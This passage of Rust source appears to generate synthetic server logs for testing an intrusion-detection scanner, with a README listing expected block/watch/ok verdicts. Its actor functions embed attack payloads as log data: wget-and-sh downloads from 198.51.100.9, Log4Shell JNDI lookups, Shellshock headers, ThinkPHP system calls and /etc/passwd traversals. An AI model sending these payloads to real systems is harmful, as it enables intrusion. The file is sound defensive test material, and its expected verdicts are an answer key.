                w.nginx_error(t + 300, "error", "access forbidden by rule", Some((WEB_IPV6, &request)));
            } else {
                let status = if path.starts_with("/api/") { 200 } else { 404 };
                w.nginx_access(t, Hit::new(WEB_IPV6, &request, status, 11532, OLD_CHROME));
            }
        }
    }

    fn zgrab_and_masscan(w: &mut World) {
        let mut rng = Rng::named("zgrab masscan");
        for d in [3, 9, 12] {
            let t = at(d, 7, 12, 40) + micros(&mut rng);
            w.access(t, Hit::new(ZGRAB, "GET / HTTP/1.1", 200, 9737, "Mozilla/5.0 zgrab/0.x"));
            if d == 12 {
                w.nginx_access(t + 40 * SEC, Hit::new(ZGRAB, "GET / HTTP/1.1", 200, 13211, "Mozilla/5.0 zgrab/0.x"));
            }
        }
        for d in [1, 8] {
            let t = at(d, rng.range(0, 24), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            w.access(
                t,
                Hit::new(
                    MASSCAN,
                    "GET / HTTP/1.0",
                    200,
                    9737,
                    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                ),
            );
        }
    }

    fn wordpress_bots(w: &mut World) {
        let mut rng = Rng::named("wordpress bots");
        let paths = [
            "/wp-login.php",
            "POST /xmlrpc.php",
            "/wp-admin/setup-config.php",
            "/wordpress/wp-admin/setup-config.php",
            "/wp-includes/wlwmanifest.xml",
            "/blog/wp-includes/wlwmanifest.xml",
            "/web/wp-includes/wlwmanifest.xml",
            "/wp-json/wp/v2/users",
            "/wp-content/plugins/wp-file-manager/readme.txt",
            "/?author=1",
            "/wp-admin/",
            "/xmlrpc.php?rsd",
            "/wp-content/themes/twentytwentyfour/style.css",
        ];
        let uas = [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        ];
        for (i, ip) in WORDPRESS_BOTS.iter().enumerate() {
            let mut days = BTreeSet::new();
            while days.len() < 1 + i % 2 {
                days.insert(rng.range(0, DAYS));
            }
            for d in days {
                let t = at(d, rng.range(0, 24), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
                let count = rng.range(5, paths.len() as i64) as usize;
                let t = probe_burst(w, &mut rng, ip, t, &paths[..count], uas[i % 2], (SEC, 8 * SEC));
                if *ip == "203.0.113.99" {
                    probe_burst(
                        w,
                        &mut rng,
                        ip,
                        t,
                        &["/api/v2/.creds_backup.json", "/.env"],
                        uas[i % 2],
                        (SEC, 8 * SEC),
                    );
                }
            }
        }
    }

    fn iot_bot(w: &mut World) {
        let mut rng = Rng::named("iot bot");
        let hello = "Hello, world";
        let bursts: [(i64, &[(&str, &str)]); 2] = [
            (
                5,
                &[
                    ("POST /boaform/admin/formLogin", IOT_UA),
                    ("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws", hello),
                    ("POST /GponForm/diag_Form?images/", hello),
                    ("/cgi-mod/webctl.cgi", IOT_UA),
                    ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", hello),
                ],
            ),
            (
                10,
                &[
                    ("POST /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.51.100.9%2Ft%7Csh%60)", IOT_UA),
                    ("/wsman/relay.php", IOT_UA),
                    ("/HNAP1/", IOT_UA),
                    ("/cgi-mod/webctl.cgi", IOT_UA),
                    ("/wsman/relay.php", IOT_UA),
                ],
            ),
        ];
        for (d, requests) in bursts {
            let mut t = random_time(&mut rng, d, 0..24);
            for (path, ua) in requests {
                t = probe_burst(w, &mut rng, IOT_BOT, t, &[path], ua, (SEC, 20 * SEC));
            }
        }
    }

    fn php_exploiter(w: &mut World) {
        let mut rng = Rng::named("php exploiter");
        let chrome78 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36";
        // Apache escapes backslashes in the request line: ThinkPHP's `\think\app` is
        // logged as `\\think\\app`.
        let requests: [(&str, &str); 9] = [
            ("/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello", chrome78),
            ("/public/index.php?s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", chrome78),
            ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Custom-AsyncHttpClient"),
            ("POST /vendor/phpunit/src/Util/PHP/eval-stdin.php", "Custom-AsyncHttpClient"),
            ("/phpmyadmin/index.php", chrome78),
            ("/pma/index.php", chrome78),
            ("/?XDEBUG_SESSION_START=phpstorm", chrome78),
            ("/wsman/relay.php", chrome78),
            ("/.env", chrome78),
        ];
        let mut t = at(6, 3, 33, 8) + micros(&mut rng);
        for (path, ua) in requests {
            t = probe_burst(w, &mut rng, PHP_EXPLOITER, t, &[path], ua, (2 * SEC, 30 * SEC));
        }
    }

    fn log4shell(w: &mut World) {
        let mut rng = Rng::named("log4shell");
        let jndi = format!("${{jndi:ldap://{CALLBACK_HOST}/a}}");
        for d in [2, 12] {
            let mut t = at(d, 5, rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            let requests = [format!("/?x={jndi}"), "/".to_string(), format!("/{jndi}"), "/wsman/relay.php".to_string()];
            for path in &requests {
                probe(w, &mut rng, LOG4SHELL, t, "GET", path, &jndi, &jndi);
                t += rng.range(SEC, 5 * SEC);
            }
        }
    }

    fn shellshock(w: &mut World) {
        let mut rng = Rng::named("shellshock");
        // Apache escapes `"` inside logged headers as `\"`.
        let ua = format!("() {{ :; }}; /bin/bash -c \\\"wget http://{CALLBACK_HOST}/x.sh -O- | sh\\\"");
        let referer = "() { :; }; echo; /bin/cat /etc/passwd";
        let mut t = at(8, 2, 14, 9) + micros(&mut rng);
        for path in ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/bash", "/cgi-bin/status/status.cgi"] {
            probe(w, &mut rng, SHELLSHOCK, t, "GET", path, &ua, referer);
            t += rng.range(SEC, 3 * SEC);
        }
    }

    fn traversal(w: &mut World) {
        let mut rng = Rng::named("traversal");
        let paths = [
            "/..%2f..%2f..%2fetc/passwd",
            "/static/..%252f..%252f..%252fetc/passwd",
            "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "/../../../../etc/passwd",
            "/index.php?file=....//....//....//etc/passwd",
        ];
        let t = at(10, 17, 41, 0) + micros(&mut rng);
        probe_burst(w, &mut rng, TRAVERSAL, t, &paths, CURL, (SEC, 4 * SEC));
    }

    fn proxy_prober(w: &mut World) {
        let mut rng = Rng::named("proxy prober");
        for d in [2, 6, 10] {
            let mut t = random_time(&mut rng, d, 0..24);
            w.access(t, Hit::new(PROXY_PROBER, "CONNECT example.org:443 HTTP/1.1", 405, 529, "-"));
            t += rng.range(SEC, 4 * SEC);
            w.access(t, Hit::new(PROXY_PROBER, "GET http://example.org/ HTTP/1.1", 404, 492, "Go-http-client/1.1"));
            if d == 6 {
                t += rng.range(SEC, 4 * SEC);
                w.access(t, Hit::new(PROXY_PROBER, "CONNECT mail.example.com:25 HTTP/1.1", 405, 529, "-"));
            }
        }
    }

    /// TLS ClientHello sent to port 80: Apache escapes the binary request line.
    fn tls_on_plain_http(w: &mut World) {
        let mut rng = Rng::named("tls on port 80");
        for (d, nginx) in [(3, false), (11, false), (12, true)] {
            let t = random_time(&mut rng, d, 0..24);
            let mut request = String::new();
            if nginx {
                // nginx escapes with upper-case hex.
                request.push_str("\\x16\\x03\\x01\\x00\\xF7\\x01\\x00\\x00\\xF3\\x03\\x03");
                for _ in 0..20 {
                    request.push_str(&format!("\\x{:02X}", rng.below(256)));
                }
                w.nginx_access(t, Hit::new(TLS_ON_PORT_80, &request, 400, 157, "-"));
            } else {
                request.push_str("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03");
                for _ in 0..20 {
                    request.push_str(&format!("\\x{:02x}", rng.below(256)));
                }
                w.access(t, Hit::new(TLS_ON_PORT_80, &request, 400, 483, "-"));
            }
        }
    }

    /// The quiet returner: 1-3 probes on 11 of the 14 days, never a burst.
    pub const SNEAK_DAYS: [i64; 11] = [0, 1, 2, 4, 5, 7, 8, 9, 11, 12, 13];

    fn sneak_returner(w: &mut World) {
        let mut rng = Rng::named("sneak");
        let paths = [
            "/wp-login.php",
            "/.env",
            "/admin/",
            "/.git/HEAD",
            "/phpinfo.php",
            "/backup.tar.gz",
            "/config.php.bak",
            "/.aws/credentials",
            "/server-status",
            "/wp-login.php",
            "/.env",
        ];
        for (n, d) in SNEAK_DAYS.into_iter().enumerate() {
            let mut t = at(d, rng.range(0, 24), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            let ua = BROWSERS[(n * 3) % BROWSERS.len()];
            // Day 11: one of its requests goes to nginx instead.
            let count = if d == 11 { 1 } else { 1 + rng.below(3) as usize };
            for k in 0..count {
                let path = paths[(n + k * 4) % paths.len()];
                probe(w, &mut rng, SNEAK, t, "GET", path, ua, "-");
                t += rng.range(30 * SEC, 40 * MIN);
            }
            if d == 11 {
                w.nginx_access(t, Hit::new(SNEAK, "GET /.env HTTP/1.1", 403, 153, ua));
                w.nginx_error(t + 200, "error", "access forbidden by rule", Some((SNEAK, "GET /.env HTTP/1.1")));
            }
        }
    }

    // ----------------------------------------------------------------------------------
    // nginx in front of Gitea: installed on day 10, so its logs are short.
    // ----------------------------------------------------------------------------------
    fn nginx_started() -> i64 {
        at(10, 6, 12, 7) + 402_118
    }

    fn gitea(w: &mut World) {
        let mut rng = Rng::named("gitea");
        let t = nginx_started();
        w.nginx_error(t, "notice", "signal process started", None);
        // Gitea was not running yet when alice first tried.
        let t = t + 3 * MIN + micros(&mut rng);
        w.nginx_access(t, Hit::new(OWNER_DESKTOP, "GET / HTTP/1.1", 502, 559, OWNER_DESKTOP_UA));
        w.nginx_error(
            t + 1_000,
            "error",
            "connect() failed (111: Connection refused) while connecting to upstream",
            // nginx puts `upstream: "..."` between request and host: carried inside
            // the request slot so `nginx_error` keeps one layout.
            Some((OWNER_DESKTOP, "GET / HTTP/1.1\", upstream: \"http://127.0.0.1:3000/")),
        );
        let pages: [(&str, u64); 7] = [
            ("/", 13211),
            ("/alice/dotfiles", 24410),
            ("/alice/dotfiles/src/branch/main/.bashrc", 19874),
            ("/alice/knockknock", 27731),
            ("/alice/knockknock/commits/branch/main", 31102),
            ("/explore/repos", 18862),
            ("/assets/css/index.css?v=1.24.6", 412_330),
        ];
        for d in 10..DAYS {
            // alice, twice a day, plus a git fetch.
            for hour in [9, 20] {
                let mut t = at(d, hour, rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
                for _ in 0..rng.range(2, 5) {
                    let (path, bytes) = *rng.pick(&pages);
                    let request = get(path);
                    w.nginx_access(
                        t,
                        Hit::new(OWNER_DESKTOP, &request, 200, bytes, OWNER_DESKTOP_UA)
                            .referer("https://git.example.net/"),
                    );
                    t += rng.range(5 * SEC, 2 * MIN);
                }
                w.nginx_access(
                    t,
                    Hit::new(
                        OWNER_DESKTOP,
                        "GET /alice/dotfiles.git/info/refs?service=git-upload-pack HTTP/1.1",
                        200,
                        1841,
                        "git/2.47.3",
                    ),
                );
                w.nginx_access(
                    t + 300_000,
                    Hit::new(
                        OWNER_DESKTOP,
                        "POST /alice/dotfiles.git/git-upload-pack HTTP/1.1",
                        200,
                        642,
                        "git/2.47.3",
                    ),
                );
            }
            // A visitor or two and Googlebot.
            let visitor = format!("192.0.2.{}", 180 + d);
            let mut t = random_time(&mut rng, d, 8..23);
            for _ in 0..rng.range(2, 5) {
                let (path, bytes) = *rng.pick(&pages);
                let request = get(path);
                w.nginx_access(
                    t,
                    Hit::new(&visitor, &request, 200, bytes, BROWSERS[0])
                        .referer("https://alice.example.net/projects/"),
                );
                t += rng.range(10 * SEC, MIN);
            }
            let t = random_time(&mut rng, d, if d == 10 { 7..9 } else { 3..6 });
            let googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
            w.nginx_access(t, Hit::new(GOOGLEBOTS[1], "GET /robots.txt HTTP/1.1", 200, 1502, googlebot));
            w.nginx_access(
                t + 20 * SEC,
                Hit::new(GOOGLEBOTS[1], "GET /alice/knockknock HTTP/1.1", 200, 27731, googlebot),
            );
        }
    }

    /// A line someone appended by hand: `hugo ... >> access.log` instead of `> build.log`.
    fn junk_in_access_log(w: &mut World) {
        w.raw(LogId::ApacheAccess, at(8, 19, 2, 13), b"Total in 412 ms".to_vec(), None);
    }

    fn build() -> World {
        let mut w = World::new();
        benign_visitors(&mut w);
        search_bots(&mut w);
        feed_readers(&mut w);
        lets_encrypt_renewal(&mut w);
        odd_crawler(&mut w);
        owner_web(&mut w);
        owner_ssh_and_system(&mut w);
        basic_auth_user_guesser(&mut w);
        alice_password_guesser(&mut w);
        ssh_bruteforcer(&mut w);
        ssh_botnet(&mut w);
        ssh_ipv6_attacker(&mut w);
        ssh_log_injection(&mut w);
        ssh_noise(&mut w);
        reboot_after_power_cut(&mut w);
        apache_rotations(&mut w);
        nikto(&mut w);
        sqlmap(&mut w);
        nuclei(&mut w);
        ipv6_web_scanner(&mut w);
        zgrab_and_masscan(&mut w);
        wordpress_bots(&mut w);
        iot_bot(&mut w);
        php_exploiter(&mut w);
        log4shell(&mut w);
        shellshock(&mut w);
        traversal(&mut w);
        proxy_prober(&mut w);
        tls_on_plain_http(&mut w);
        sneak_returner(&mut w);
        gitea(&mut w);
        junk_in_access_log(&mut w);
        for lines in w.logs.values_mut() {
            // Stable: lines with equal stamps keep the order their actor wrote them in.
            lines.sort_by_key(|line| line.ts);
        }
        truncate_last_line_before(&mut w, LogId::ApacheAccess, access_cuts()[1]);
        w
    }

    /// The rotated file that ends at `cut` loses the tail of its last line (copied while
    /// being written): no newline, cut inside the request so no format can take it.
    fn truncate_last_line_before(w: &mut World, log: LogId, cut: i64) {
        let lines = w.logs.get_mut(&log).expect("log has lines");
        let last = lines.iter().rposition(|line| line.ts < cut).expect("a line before the cut");
        let bytes = &lines[last].bytes;
        let quote = bytes.iter().position(|&b| b == b'"').unwrap_or(bytes.len() / 2);
        let keep = (quote + 10).min(bytes.len());
        lines[last].bytes.truncate(keep);
        lines[last].newline = false;
    }

    // ----------------------------------------------------------------------------------
    // Writing the tree.
    // ----------------------------------------------------------------------------------
    struct FileInfo {
        path: String,
        lines: usize,
        bytes: usize,
        first: Option<i64>,
        last: Option<i64>,
    }

    /// Splits `lines` at `cuts` (ascending) and writes `base` (newest), `base.1`, then
    /// `base.2.gz`... (delaycompress: the first rotation stays plain).
    fn write_rotated(root: &Path, base: &str, lines: &[Line], cuts: &[i64]) -> io::Result<Vec<FileInfo>> {
        let periods = cuts.len() + 1;
        let mut infos = Vec::new();
        for period in 0..periods {
            let from = if period == 0 { i64::MIN } else { cuts[period - 1] };
            let until = cuts.get(period).copied().unwrap_or(i64::MAX);
            let chunk: Vec<&Line> = lines.iter().filter(|l| l.ts >= from && l.ts < until).collect();
            let mut content = Vec::new();
            for line in &chunk {
                content.extend_from_slice(&line.bytes);
                if line.newline {
                    content.push(b'\n');
                }
            }
            let index = periods - 1 - period;
            let name = match index {
                0 => base.to_string(),
                1 => format!("{base}.1"),
                n => format!("{base}.{n}.gz"),
            };
            let data = if index >= 2 { gzip_bytes(&content)? } else { content };
            let path = root.join(&name);
            if let Some(parent) = path.parent() {
                fs::create_dir_all(parent)?;
            }
            fs::write(&path, &data)?;
            infos.push(FileInfo {
                path: name,
                lines: chunk.len(),
                bytes: data.len(),
                first: chunk.first().map(|l| l.ts),
                last: chunk.last().map(|l| l.ts),
            });
        }
        infos.reverse();
        Ok(infos)
    }

    pub fn write_tree(out: &Path) -> io::Result<()> {
        let w = build();
        fs::create_dir_all(out)?;
        let empty = Vec::new();
        let log = |id| w.logs.get(&id).unwrap_or(&empty);
        let mut files = Vec::new();
        files.extend(write_rotated(out, "apache2/access.log", log(LogId::ApacheAccess), &access_cuts())?);
        files.extend(write_rotated(out, "apache2/error.log", log(LogId::ApacheError), &error_cuts())?);
        files.extend(write_rotated(out, "auth.log", log(LogId::Auth), &auth_cuts())?);
        files.extend(write_rotated(out, "nginx/access.log", log(LogId::NginxAccess), &[])?);
        files.extend(write_rotated(out, "nginx/error.log", log(LogId::NginxError), &[])?);
        let readme = readme(&w, &files);
        fs::write(out.join("README.md"), readme)?;
        let total: usize = files.iter().map(|f| f.bytes).sum();
        eprintln!("knocklog-gen: wrote {} files ({} bytes) and README.md into {}", files.len(), total, out.display());
        Ok(())
    }

    // ----------------------------------------------------------------------------------
    // README: the actor table (hand-written expectations) and the tallies (computed).
    // ----------------------------------------------------------------------------------
    struct Actor {
        ips: Vec<String>,
        role: &'static str,
        expected: &'static str,
    }

    fn actors() -> Vec<Actor> {
        let one = |ip: &str| vec![ip.to_string()];
        let many = |ips: &[&str]| ips.iter().map(|ip| ip.to_string()).collect::<Vec<_>>();
        vec![
            Actor { ips: many(&[OWNER_DESKTOP, OWNER_LAPTOP]), role: "the owner (alice) on the LAN: /private/ with basic auth (200, user alice), ssh `Accepted publickey`, sudo; day 7 one mistyped password from the laptop (AH01617 then 200)", expected: "ok (never flagged: private address, successful login)" },
            Actor { ips: many(&["100.72.14.201", "100.72.133.9", "100.72.61.77"]), role: "alice's phone on the carrier's CGNAT (100.64.0.0/10): 401 without credentials, then 200 as alice; one ssh publickey login", expected: "ok" },
            Actor { ips: one(HOTEL), role: "alice from a hotel Wi-Fi on day 8: one AH01617 Password Mismatch for alice, then 200 as alice on /private/", expected: "watch (not block): one failure followed by success" },
            Actor { ips: one(AUTH_USER_GUESSER), role: "basic-auth user guesser (Hydra): ~110 AH01618 `user X not found` + 401s over 20 min on day 11, then 6 nginx `user \"X\" was not found`", expected: "block: http auth brute force" },
            Actor { ips: one(ALICE_PASSWORD_GUESSER), role: "guesses alice's password: reads /about/, 60 AH01617 Password Mismatch for alice over ~30 min (day 4), then ssh `Failed password for alice`", expected: "block: http auth + ssh brute force on a real account" },
            Actor { ips: one(SSH_BRUTEFORCER), role: "ssh brute force on day 11 00:02-01:05: `Failed password for root`, `Invalid user X`, `Connection closed by invalid user`, max auth attempts", expected: "block: ssh brute force" },
            Actor { ips: many(&SSH_BOTNET), role: "ssh botnet: 1-2 connections on 1-3 days each (root, ubuntu, solana, ...); 185.224.128.17 and 45.148.10.183 also attack the web server", expected: "watch or block each (few tries); block for the two that also exploit the web" },
            Actor { ips: one(SSH_IPV6), role: "IPv6 ssh attacker: 12 connections in 40 min on day 9", expected: "block: ssh brute force" },
            Actor { ips: one(LOG_INJECTOR), role: "log injection: user name `x from 8.8.8.8 port 22` (line reads `Invalid user x from 8.8.8.8 port 22 from 203.0.113.5 port 4242`), then a plain `admin` try", expected: "flagged as itself; 8.8.8.8 must NOT appear anywhere in the output" },
            Actor { ips: one(NO_IDENT_SCANNER), role: "`Did not receive identification string` on 4 days", expected: "watch (noise) or ok" },
            Actor { ips: one(KEX_PROBER), role: "`kex_exchange_identification: Connection closed by remote host` / `Connection reset by peer` (pid-bound) on 4 days", expected: "watch (noise) or ok" },
            Actor { ips: one(OLD_KEX_SCANNER), role: "`Unable to negotiate ... diffie-hellman-group1-sha1 [preauth]` on 2 days", expected: "watch (noise) or ok" },
            Actor { ips: one(ZGRAB), role: "zgrab: `GET /` (200) and ssh `Bad protocol version identification 'GET / HTTP/1.1'` on 3 days, also on nginx", expected: "watch (scanner UA)" },
            Actor { ips: one(MASSCAN), role: "masscan: `GET /` HTTP/1.0 on 2 days", expected: "watch (scanner UA)" },
            Actor { ips: one(NIKTO), role: "Nikto 2.5.0 on day 3: ~105 probes in a few minutes (cgi-bin, .git, .ht*, phpmyadmin, %c0%af, traversal, OPTIONS/TRACE/PROPFIND), planted /cgi-mod/webctl.cgi", expected: "block: web scan" },
            Actor { ips: one(SQLMAP), role: "sqlmap on day 5 (`/?id=1%27%20OR%201=1--` and friends), later curl for planted /api/v2/.creds_backup.json", expected: "block: sql injection" },
            Actor { ips: one(NUCLEI), role: "Nuclei on day 9: ~40 template probes (.env, .git/config, actuator, Fortinet, Citrix, ...), planted exporttool.aspx and .creds_backup.json", expected: "block: web scan" },
            Actor { ips: one(WEB_IPV6), role: "IPv6 web scanner on day 12: .env, .git/config, wp-login, phpmyadmin, planted exporttool.aspx; nginx `access forbidden by rule`", expected: "block: web scan" },
            Actor { ips: many(&WORDPRESS_BOTS), role: "WordPress probers (wp-login.php, xmlrpc.php, wlwmanifest.xml, setup-config.php); 203.0.113.99 also planted .creds_backup.json and .env", expected: "block (or watch for the smallest bursts): wordpress probe" },
            Actor { ips: one(IOT_BOT), role: "IoT/Mirai-style exploits: /boaform/admin/formLogin, /shell?cd+/tmp..., GponForm, Netgear setup.cgi (Mozi), luci stok; planted /cgi-mod/webctl.cgi and /wsman/relay.php; also ssh botnet", expected: "block: exploit attempts" },
            Actor { ips: one(PHP_EXPLOITER), role: "ThinkPHP invokefunction (logged as `\\\\think\\\\app`), phpunit eval-stdin.php, phpmyadmin, XDEBUG, planted /wsman/relay.php; also ssh botnet", expected: "block: exploit attempts" },
            Actor { ips: one(LOG4SHELL), role: "Log4Shell: `${jndi:ldap://198.51.100.9/a}` in query, path, referer and User-Agent on days 2 and 12; planted /wsman/relay.php", expected: "block: exploit attempts" },
            Actor { ips: one(SHELLSHOCK), role: "Shellshock `() { :; }; /bin/bash -c ...` in User-Agent and referer against /cgi-bin/ (AH02811 lines with `, referer:`)", expected: "block: exploit attempts" },
            Actor { ips: one(TRAVERSAL), role: "path traversal: `/..%2f..%2f..%2fetc/passwd`, `%252f`, `.%2e` (AH10244), `/../../` (AH00126)", expected: "block: traversal" },
            Actor { ips: one(PROXY_PROBER), role: "open-proxy probes: `CONNECT example.org:443` (405), `GET http://example.org/` (404) on 3 days", expected: "watch or block: proxy probe" },
            Actor { ips: one(TLS_ON_PORT_80), role: "TLS ClientHello sent to plain HTTP (`\\x16\\x03\\x01...` 400), Apache and nginx", expected: "watch (garbage requests)" },
            Actor { ips: one(SNEAK), role: "quiet returner: 1-3 probes (/wp-login.php, /.env, /admin/, /.git/HEAD ...) on 11 of the 14 days, never a burst, with ordinary browser UAs", expected: "no per-day rule trips; the multi-day returner rule must catch it (watch at least, block expected)" },
            Actor { ips: vec!["192.0.2.x (44 IPs: 40 IPv4, 4 in 2001:db8:1::/48)".to_string()], role: "blog visitors with real browser UAs: pages, assets (200 first, 304 later), missing /favicon.ico (404); Chrome preconnects leave `\"-\" 408` lines", expected: "ok" },
            Actor { ips: many(&[GOOGLEBOTS[0], GOOGLEBOTS[1], GOOGLEBOTS[2], BINGBOTS[0], BINGBOTS[1]]), role: "Googlebot and bingbot: robots.txt, sitemap, pages, some 404s on removed pages", expected: "ok" },
            Actor { ips: many(&[FRESHRSS, FEEDLY]), role: "feed readers polling /feed.xml (mostly 304)", expected: "ok" },
            Actor { ips: many(&LETS_ENCRYPT), role: "Let's Encrypt HTTP-01 validation on day 8 (/.well-known/acme-challenge/...)", expected: "ok" },
            Actor { ips: one(ODD_CRAWLER), role: "crawler with raw non-UTF-8 bytes (0xE9, 0xFF 0xFE) in its User-Agent", expected: "ok (line parsed, not rejected)" },
            Actor { ips: vec!["192.0.2.190 .. 192.0.2.193".to_string()], role: "Gitea visitors on nginx", expected: "ok" },
            Actor { ips: one(CALLBACK_HOST), role: "never a client: only the callback host inside Log4Shell/Shellshock/IoT payloads", expected: "must NOT appear in the output" },
        ]
    }

    fn readme(w: &World, files: &[FileInfo]) -> String {
        let mut s = String::new();
        s.push_str("# sample-logs: a small server's rotated /var/log, with planted actors\n\n");
        s.push_str("Generated, byte for byte reproducibly, by\n\n```sh\ncargo run --release --bin knocklog-gen -- sample --out sample-logs\n```\n\n");
        s.push_str("Do not edit by hand: change `src/bin/knocklog-gen.rs` and regenerate (this README is written by the generator too, so its tables match the data).\n\n");
        s.push_str("The machine is `homeserver`: Apache 2.4 (Debian) serving alice's blog `alice.example.net` with a basic-auth `/private/` area, nginx in front of a Gitea (`git.example.net`, installed on 2026-01-05), and sshd with password authentication still on. ");
        s.push_str("The period is 2025-12-26 00:00 to 2026-01-08 23:59, **all UTC**. Access logs and auth.log carry their offset (`+0000`, `+00:00`); Apache and nginx error logs carry none, so scan with `--timezone utc` to line them up. ");
        s.push_str("Day numbers below count from day 0 = 2025-12-26 (day 6 = 2026-01-01, day 13 = 2026-01-08).\n\n");
        s.push_str("Public addresses come from the documentation ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 and 2001:db8::/32, plus a few public-looking 45.x/185.x botnet addresses and the real crawler ranges of Google, Bing and Let's Encrypt for those benign roles.\n\n");

        s.push_str("## Files\n\nEach family is rotated at different midnights; every file holds one contiguous period, `.N.gz` older than `.1`, the bare name newest.\n\n");
        s.push_str("| file | lines | bytes | first line | last line |\n|---|---:|---:|---|---|\n");
        for f in files {
            let first = f.first.map(civil::readable).unwrap_or_default();
            let last = f.last.map(civil::readable).unwrap_or_default();
            s.push_str(&format!("| `{}` | {} | {} | {} | {} |\n", f.path, f.lines, f.bytes, first, last));
        }
        let total: usize = files.iter().map(|f| f.bytes).sum();
        s.push_str(&format!("\nTotal: {total} bytes on disk.\n\n"));

        s.push_str("## Actors and expected verdicts\n\n");
        s.push_str(
            "`block` = clearly hostile, `watch` = suspicious but not conclusive, `ok` = must not be flagged.\n\n",
        );
        s.push_str("| IP(s) | who / what | expected |\n|---|---|---|\n");
        for actor in actors() {
            let ips: Vec<String> = actor.ips.iter().map(|ip| format!("`{ip}`")).collect();
            s.push_str(&format!("| {} | {} | {} |\n", ips.join(", "), actor.role.replace('|', "\\|"), actor.expected));
        }

        s.push_str("\n## Planted attack paths\n\nNo public signature list knows these; each is requested only by attacker IPs (at least two each), all of which also do obviously hostile things. No benign client ever requests them.\n\n");
        s.push_str("| path | requested by |\n|---|---|\n");
        for path in PLANTED_PATHS {
            let mut who: BTreeSet<String> = BTreeSet::new();
            for log in [LogId::ApacheAccess, LogId::NginxAccess] {
                for line in w.logs.get(&log).into_iter().flatten() {
                    let text = String::from_utf8_lossy(&line.bytes);
                    if text.contains(&format!(" {path} ")) {
                        who.insert(text.split(' ').next().unwrap_or("").to_string());
                    }
                }
            }
            let who: Vec<String> = who.into_iter().map(|ip| format!("`{ip}`")).collect();
            s.push_str(&format!("| `{path}` | {} |\n", who.join(", ")));
        }

        s.push_str("\n## Deliberately awkward lines\n\n");
        s.push_str("- `apache2/access.log.2.gz` ends with a truncated line (no newline).\n");
        s.push_str("- `apache2/access.log.1` contains a line that is no log format at all (`Total in 412 ms`, a build tool's output appended by mistake) and a User-Agent with raw non-UTF-8 bytes (192.0.2.222).\n");
        s.push_str("- `auth.log.2.gz` has a run of 73 NUL bytes followed by a newline where the power was cut (2025-12-28 23:12), then the boot's logind/sshd lines; Apache restarts too.\n");
        s.push_str("- TLS handshakes on plain HTTP (`\"\\x16\\x03\\x01...\" 400`), Chrome preconnects (`\"-\" 408 0`), `CONNECT` lines, escaped quotes and backslashes (`\\\"`, `\\\\think\\\\app`), IPv6 clients in Apache's `[client 2001:db8:4b1d::23:PORT]` form.\n");
        s.push_str("- The log-injection line above; and 198.51.100.9 appears only inside payloads.\n\n");

        s.push_str("## Per-IP line counts (computed)\n\nLines naming each address, per log, and the number of distinct days (UTC) it appears on. Lines of an ssh session that name no address (e.g. `pam_unix(...): check pass; user unknown`) are not counted.\n\n");
        s.push_str("| IP | apache access | apache error | auth | nginx access | nginx error | days |\n|---|---:|---:|---:|---:|---:|---:|\n");
        for (ip, t) in &w.tally {
            s.push_str(&format!(
                "| `{ip}` | {} | {} | {} | {} | {} | {} |\n",
                t.apache_access,
                t.apache_error,
                t.auth,
                t.nginx_access,
                t.nginx_error,
                t.days.len()
            ));
        }
        s
    }
}

/// The benchmark corpus: one access-log rotation, `files` files of `size / files` bytes,
/// one day each, ending 2026-01-08. Lines are assembled from pre-rendered pieces into an
/// 8 MiB buffer (no `format!` per line); a second thread gzips while the first generates.
mod bench {
    use super::civil::{self, DAY, SEC};
    use super::rng::Rng;
    use super::*;
    use std::sync::mpsc::{sync_channel, SyncSender};
    use std::thread::{self, JoinHandle};
    use std::time::Instant;

    const CHUNK: usize = 8 << 20;
    const CLIENTS: usize = 40_000;
    const ATTACKERS: usize = 2_500;

    const BROWSERS: [&str; 12] = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
